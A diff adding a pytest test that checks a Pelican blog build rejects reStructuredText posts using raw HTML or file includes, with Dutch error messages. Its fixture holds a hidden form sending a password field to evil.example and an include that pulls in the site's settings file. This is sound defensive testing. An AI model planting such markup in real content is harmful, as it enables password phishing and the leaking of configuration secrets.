@@ -502,6 +502,49 @@ def test_dates_are_read_day_first_in_the_check_and_the_build(tmp_path, pristine)
     assert 'datetime="2025-02-01' in page and "1 februari 2025" in page
 
 
+RAW_RST = """Ruw
+###
+
+:date: 2024-01-02 10:00
+:slug: ruw
+:summary: Ruw.
+
+Tekst.
+
+.. raw:: html
+
+   <form action="https://evil.example/"><input name="wachtwoord"></form>
+
+.. include:: ../../pelicanconf.py
+   :literal:
+"""
+
+
+def test_a_restructuredtext_post_passes_no_html_or_other_file_through(
+    tmp_path, pristine
+):
+    content = project_with(tmp_path, pristine, add("posts/ruw.rst", RAW_RST.encode()))
+    shutil.copy(SETTINGS, tmp_path / "pelicanconf.py")  # what the include names
+    told: list[str] = []
+    output = tmp_path / "output"
+    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], told.append) == 1
+    assert lines("\n".join(told), content) == [
+        "content/posts/ruw.rst:10: fout: HTML in een reStructuredText-post (.. raw::) "
+        "kan niet op de site (schrijf het als gewone tekst, of zet de post om naar "
+        "Markdown)"
+    ]
+    assert not (output / "blog/ruw/index.html").exists()
+    (content / "posts/ruw.rst").write_text(
+        RAW_RST.split(".. raw::")[0] + RAW_RST.split("</form>")[1]
+    )
+    told.clear()
+    assert run_pelican(SETTINGS, [str(content), "-o", str(output)], told.append) == 1
+    assert lines("\n".join(told), content) == [
+        "content/posts/ruw.rst:12: fout: een ander bestand invoegen (.. include::) kan "
+        "niet in een post (zet de tekst zelf in de post)"
+    ]
+
+
 @pytest.mark.parametrize(
     "slug", ["jamstack--unwrapping-the-hype", "mijn_eerste_post", "2024-01-15-stal"]
 )
